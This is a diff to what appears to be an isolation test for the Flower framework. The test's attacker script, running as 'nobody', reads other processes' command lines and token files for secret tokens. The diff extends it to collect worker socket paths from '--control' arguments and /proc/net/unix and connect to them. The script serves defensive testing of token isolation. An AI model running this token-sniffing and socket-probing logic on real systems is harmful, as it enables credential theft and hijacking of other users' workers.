@@ -8,8 +8,10 @@ replies with guessed, empty and (if it found one) sniffed tokens. Before the fix
 (no SuperExec secret) and read tokens from ``flwr-clientapp --token ...``. Now both hosts run
 ``--isolation process`` with a per-start secret that only their own executor holds, and apps
 get their token through ``--token-file`` (0600 in a 0700 folder) or, at the site, over the
-socket of a prestarted ClientApp worker (0600 in a 0700 folder), which the attacker finds in
-``/proc/net/unix`` and tries to hand a task of its own.
+socket of a prestarted ClientApp worker (0600 in a 0700 folder). The attacker finds the
+worker template's fork socket on its command line (``--control``) and worker sockets in
+``/proc/net/unix`` (where a deep folder's socket shows as its ``/proc/self/fd`` alias), and
+tries to connect and hand a task of its own.
 
 The attacker runs Flower's own Runtime API client from the project's site-packages under the
 system interpreter (the project's interpreter lives in root's home, which ``nobody`` cannot
@@ -53,7 +55,7 @@ from flwr.supercore.runtime import RuntimeHttpClient
 
 site, coordinator, stop = sys.argv[1], sys.argv[2], sys.argv[3]
 TOKEN = re.compile(r"^[0-9a-f]{256}$")
-seen_files, sniffed = set(), set()
+seen_files, sniffed, socket_paths = set(), set(), set()
 
 
 def say(**finding):
@@ -104,6 +106,8 @@ def scan():
                 if i + 1 < len(args) and TOKEN.match(args[i + 1]):
                     sniffed.add(("site", site, False, args[i + 1]))
                     sniffed.add(("coordinator", coordinator, True, args[i + 1]))
+            if arg == "--control" and i + 1 < len(args):  # a worker template's fork socket
+                socket_paths.add(args[i + 1])
             if arg == "--token-file" and i + 1 < len(args) and args[i + 1] not in seen_files:
                 seen_files.add(args[i + 1])
                 try:
@@ -118,9 +122,8 @@ def scan():
 def scan_sockets():
     with open("/proc/net/unix") as handle:
         rows = [line.split() for line in handle.read().splitlines()[1:]]
-    for path in {row[-1] for row in rows if len(row) > 7} - seen_files:
-        if "prestarted" not in path:
-            continue
+    listed = {row[-1] for row in rows if len(row) > 7 and "prestarted" in row[-1]}
+    for path in (listed | socket_paths) - seen_files:
         seen_files.add(path)
         probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
         try:
